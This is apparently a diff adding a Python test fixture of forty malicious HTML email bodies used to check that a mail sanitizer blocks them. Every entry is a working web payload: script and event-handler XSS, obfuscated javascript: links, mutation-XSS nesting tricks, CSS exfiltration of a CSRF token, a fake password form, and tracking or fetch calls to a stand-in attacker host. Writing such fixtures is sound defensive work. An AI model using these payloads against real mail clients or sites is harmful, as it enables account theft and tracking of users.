@@ -1,0 +1,48 @@
+"""Forty bodies that mail programs of attackers send (safety.md S-01), each with what it tries."""
+
+from __future__ import annotations
+
+EVIL = "http://127.0.0.1:9/evil"  # where nobody listens: a request there would be seen by the browser
+
+BODIES = [
+    "<script>alert(1)</script>",
+    f"<script src={EVIL}.js></script>",
+    "<img src=x onerror=alert(1)>",
+    f"<img src=x onerror=fetch('{EVIL}')>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    '<a href="javascript:alert(1)" id=x>here</a>',
+    '<a href="java&#9;script:alert(1)">tab</a>',
+    '<a href="java&#10;script:alert(1)">line</a>',
+    '<a href=" &#1; javascript:alert(1)">control</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
+    '<a href="vbscript:msgbox(1)">vb</a>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+    "<template><script>alert(1)</script></template>",
+    "<style>*{display:none!important}</style>",
+    f"<style>@import url({EVIL}.css)</style>",
+    f"<style>input[name=csrfmiddlewaretoken][value^=a]{{background:url({EVIL}/a)}}</style>",
+    "<base href=//evil.example/>",
+    f"<form action={EVIL}><input name=password><button>Sign in</button></form>",
+    f"<button formaction={EVIL}>Go</button>",
+    '<div id="main" name="main">clobbered</div><a id="toasts"></a><img name="body">',
+    '<form id="confirm"><input name="attributes"></form>',
+    '<div style="position:fixed;inset:0;background:red;z-index:99999">cover</div>',
+    '<div style="position:absolute;top:-9999px;left:-9999px">away</div>',
+    '<p style="margin-top:-5000px">up</p>',
+    f'<iframe src="{EVIL}"></iframe>',
+    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+    f'<object data="{EVIL}"></object><embed src="{EVIL}">',
+    f'<video poster="{EVIL}.png" src="{EVIL}.mp4" autoplay></video><audio src="{EVIL}.mp3" autoplay>',
+    f'<img src="{EVIL}.gif" width=1 height=1><img srcset="{EVIL}-2x.gif 2x">',
+    f'<table background="{EVIL}.png"><tr><td style="background:url({EVIL}.png)">x</td></tr></table>',
+    f'<meta http-equiv="refresh" content="0;url={EVIL}"><link rel=stylesheet href={EVIL}.css>',
+    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>y</marquee>",
+    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
+    '<div hx-get="/sign-out" hx-trigger="load" hx-on::load="alert(1)" data-hx-post="/report">htmx</div>',
+    f'<picture><source srcset="{EVIL}.webp"><img src="cid:none"></picture><image href="{EVIL}.svg">',
+]
